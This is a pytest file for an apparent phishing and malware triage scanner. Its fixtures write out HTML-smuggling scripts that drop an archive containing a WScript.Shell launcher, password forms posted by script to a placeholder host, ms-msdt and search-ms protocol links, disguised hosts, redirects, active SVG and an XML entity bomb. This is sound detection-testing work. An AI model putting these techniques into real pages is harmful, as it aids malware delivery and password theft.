"""Pages and pictures in SVG: smuggled files, forms, links, and what is said of what was not followed."""

import base64

import pytest

from emotriage import Level, scan
from emotriage.testing import archive, mail, page

SCRIPT = b'var shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("emotriage-inert");\r\n'
FILE = archive(files={"dates.js": SCRIPT})
LONG = "<p>" + "There are dates on every Tuesday and Wednesday of March, for all who need one. " * 8 + "</p>"


def look(text: str, file: bytes = b"", name: str = "dates.html"):
    return scan(page(text, file), name=name)


def rules_of(verdict) -> set[str]:
    return {one.rule for one in verdict.findings}


def urls(verdict) -> set[str]:
    return {one.value for one in verdict.indicators if one.kind == "url"}


SMUGGLED = "<script>saveAs(new Blob([Uint8Array.from(atob('{file}'), c => c.charCodeAt(0))]), 'dates.zip')</script>"


def test_a_smuggled_archive_is_opened_under_its_name():
    verdict = look(SMUGGLED, FILE)
    assert verdict.level is Level.MALICIOUS
    assert [(one.name, one.kind) for one in verdict.artifacts] == [
        ("dates.html", "html"), ("dates.zip", "zip"), ("dates.js", "script"),
    ]  # fmt: skip
    assert verdict.complete


def test_a_page_in_a_page_is_read_again():
    inner = page(SMUGGLED, FILE)
    outer = page("<script>document.write(decodeURIComponent('{file}'));</script>", inner, encoding="percent")
    assert {"html.smuggles-file", "script.would-start"} <= rules_of(scan(outer, name="dates.html"))


def test_passwords_of_the_page_and_of_the_mail_open_what_it_smuggles():
    locked = archive(files={"dates.js": SCRIPT}, password="Emo-4711", method=8)
    told = page("<p>Password: Emo-4711</p>" + SMUGGLED, locked)
    assert "script.would-start" in rules_of(scan(told, name="dates.html"))
    silent = page(SMUGGLED, locked)
    assert "script.would-start" not in rules_of(scan(silent, name="dates.html"))
    mailed = mail(text="Password: Emo-4711\n", attach={"dates.html": silent})
    assert "script.would-start" in rules_of(scan(mailed, name="mail.eml"))


def test_a_file_is_found_in_a_page_whose_scripts_are_beyond_us():
    text = "var a = ] broken; var u = URL.createObjectURL(new Blob([strange(atob('{file}'))]));"
    verdict = look(f"<script>{text}</script>", archive(files={"dates.js": SCRIPT * 4}))
    assert {"html.smuggles-file", "script.would-start", "html.active-content"} <= rules_of(verdict)


def test_what_nobody_can_decode_is_a_gap():
    text = "saveAs(new Blob([crypto.subtle.decrypt('{file}')]), 'dates.zip');"
    verdict = look(f"<script>{text}</script>", bytes(range(256)) * 8)
    assert "html.file-not-read" in rules_of(verdict)
    assert not verdict.complete


@pytest.mark.parametrize(
    "markup",
    [
        '<a download="dates.zip" href="data:application/zip;base64,{file}">Save</a>',
        '<a href="data:application/octet-stream;base64,{file}">Save</a>',
        '<iframe src="data:application/zip;base64,{file}"></iframe>',
        '<object data="data:application/zip;base64,{file}"></object>',
    ],
)
def test_files_in_addresses_are_opened(markup):
    assert {"html.smuggles-file", "script.would-start"} <= rules_of(look(LONG + markup, FILE))


def test_pages_in_addresses_and_frames_are_read():
    inner = base64.b64encode(page(SMUGGLED, FILE)).decode()
    verdict = look(f'<iframe src="data:text/html;base64,{inner}"></iframe>')
    assert "script.would-start" in rules_of(verdict)
    verdict = look(
        "<iframe srcdoc=\"<form action='https://emotriage.invalid/'><input type=password></form>\"></iframe>"
    )
    assert "html.password-form" in rules_of(verdict)


QUIET = [
    "<script>var x = document.getElementById('a'); if (x) { x.style.display = 'none'; }</script><p id=a>1</p>",
    "<button onclick=\"alert('Tuesday')\">Dates</button>",
    '<form action="/dates"><input name="day"><select><option>Tuesday</select><textarea></textarea></form>',
    '<a href="javascript:void(0)">Dates</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<script type="application/ld+json">{"@type": "Event"}</script>',
    '<a href="https://emotriage.invalid/dates">https://www.emotriage.invalid/</a>',
    "<script><!--\nvar day = 'Tuesday';\n--></script>",
]


@pytest.mark.parametrize("markup", QUIET)
def test_what_was_followed_and_is_harmless_is_looked_at(markup):
    verdict = look(markup + LONG)
    assert (verdict.level, verdict.complete) == (Level.CLEAN, True)


GAPS = [
    '<script src="https://emotriage.invalid/a.js"></script>',
    '<script src="//emotriage.invalid/a.js"></script>',
    '<script src="a.js"></script>',
    "<script>var s = document.createElement('script'); s.src = 'https://emotriage.invalid/a.js';</script>",
    '<iframe src="https://emotriage.invalid/"></iframe>',
    '<object classid="clsid:00000000-0000-0000-0000-000000000000"></object>',
    "<applet code=a></applet>",
    "<script>for (var i = 0, t = ''; i < 9e9; i++) { t = t + i; if (t.length > 9) { t = ''; } }</script>",
    '<p style="behavior: url(a.htc)">x</p>',
    '<meta charset="utf-7">',
]


@pytest.mark.parametrize("markup", GAPS)
def test_what_was_not_followed_is_a_gap(markup):
    verdict = look(markup + LONG)
    assert not verdict.complete
    assert verdict.level >= Level.UNVERIFIED


@pytest.mark.parametrize(
    ("markup", "rule"),
    [
        ('<a href="https://www.emotriage.invalid@198.51.100.7/">x</a>', "html.credentials-in-address"),
        ('<a href="http://0306.063.0144.07/">x</a>', "html.odd-host-number"),
        ('<a href="http://3325256711/">x</a>', "html.odd-host-number"),
        ('<a href="https://emotriage.invalid/a.one?x=1">x</a>', "html.file-link"),
        ('<a href="https://emotriage.invalid/a%2Eiso">x</a>', "html.file-link"),
        ('<a href="SEARCH-MS:query=a">x</a>', "html.protocol-link"),
        ('<a href="&#109;s-appinstaller:?source=https://emotriage.invalid/a">x</a>', "html.protocol-link"),
        ('<iframe src="ms-msdt:/id x"></iframe>', "html.protocol-link"),
        ('<a href="https://emotriage.invalid/"><b>www.bank.invalid</b>/login</a>', "html.link-shows-other-host"),
    ],
)
def test_links(markup, rule):
    assert rule in rules_of(look(markup + LONG))


@pytest.mark.parametrize("text", ["Dates", "jo@example.invalid", "report.pdf", "1.2.3", "e.g. dates", "dates.invalid"])
def test_texts_that_name_no_host(text):
    assert "html.link-shows-other-host" not in rules_of(look(f'<a href="https://emotriage.invalid/">{text}</a>'))


def test_a_saved_page_may_have_its_own_login():
    links = "".join(f'<a href="https://www.emotriage.invalid/{number}">{number}</a>' for number in range(6))
    form = '<form action="https://emotriage.invalid/in"><input type="password"></form>'
    assert look(LONG + form).level is Level.SUSPICIOUS
    assert look(LONG + links + form).level is Level.CLEAN


@pytest.mark.parametrize(
    "send",
    [
        "fetch('https://emotriage.invalid/in', {method: 'POST'});",
        "$.ajax({url: 'https://emotriage.invalid/in', type: 'POST'});",
        "var x = new XMLHttpRequest(); x.open('POST', 'https://emotriage.invalid/in'); x.send('a');",
        "var f = document.getElementById('f'); f.action = 'https://emotriage.invalid/in'; f.submit();",
    ],
)
def test_a_password_that_scripts_send(send):
    form = '<form id="f"><input type="password"></form>'
    verdict = look(f"{LONG}{form}<script>function go() {{ {send} }}</script><button onclick='go()'>In</button>")
    assert "html.password-form" in rules_of(verdict)
    assert "https://emotriage.invalid/in" in urls(verdict)


def test_a_page_that_starts_programs_is_judged_as_a_script():
    verdict = look(f"{LONG}<script>{SCRIPT.decode()}</script>" + "<p>x</p>" * 20)
    assert "script.would-start" in rules_of(verdict)


REFRESH = '<meta http-equiv="refresh" content="%s; url=https://emotriage.invalid/dates">'
SCRIPTED = "<script>location = 'https://emotriage.invalid/dates'</script>"


@pytest.mark.parametrize("lead", [REFRESH % "0", REFRESH % "9.5", SCRIPTED])
@pytest.mark.parametrize("behind", [bytes(range(256)) * 8, b"\xe3\x83 " * 400, b"q9 " * 400, b"Zm9v" * 400])
def test_what_stands_behind_a_redirection_does_not_talk_it_away(lead, behind):
    data = f"<html><head><title>Dates</title>{lead}</head><body><p>One moment.</p></body></html>".encode() + behind
    assert "html.redirects" in rules_of(scan(data, name="dates.html"))


@pytest.mark.parametrize("lead", [REFRESH % "900", SCRIPTED])
def test_a_page_to_read_that_leads_on_later(lead):
    words = " ".join(f"word{number}" for number in range(100))
    assert "html.redirects" not in rules_of(look(f"<p>{words}</p>{lead}"))


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'


def test_a_passive_picture_is_clean():
    verdict = look(
        SVG % '<defs><g id="a"><circle r="4"/></g></defs><use xlink:href="#a"/><style>g{fill:red}</style>', name="a.svg"
    )
    assert (verdict.artifacts[0].kind, verdict.level, verdict.complete) == ("svg", Level.CLEAN, True)


@pytest.mark.parametrize(
    ("inner", "rule"),
    [
        ("<script>location = atob('aHR0cHM6Ly9lbW90cmlhZ2UuaW52YWxpZC9h')</script>", "html.hidden-address"),
        ("<foreignObject><form action='https://emotriage.invalid/'><input type='password'/></form></foreignObject>",
         "html.password-form"),
        ("<image onload=\"top.location='https://emotriage.invalid/'\"/>", "html.redirects"),
        ("<a xlink:href='data:application/zip;base64,{file}'><text>Save</text></a>", "html.smuggles-file"),
        ("<script xlink:href='https://emotriage.invalid/a.js'/><circle/>", "html.external-script"),
        ("<a xlink:href=\"javascript:location='https://emotriage.invalid/'\"><text>x</text></a>", "html.redirects"),
        ("<set attributeName='href' to=\"javascript:location='https://emotriage.invalid/'\"/>", "html.redirects"),
    ],
)  # fmt: skip
def test_an_active_picture(inner, rule):
    assert rule in rules_of(look(SVG % inner, FILE, name="a.svg"))


def test_entities_of_a_picture_are_refused():
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>' + SVG % "<text>&b;</text>"
    verdict = look(bomb, name="a.svg")
    assert {"xml.document-type", "xml.entities"} <= rules_of(verdict)
    assert not verdict.complete
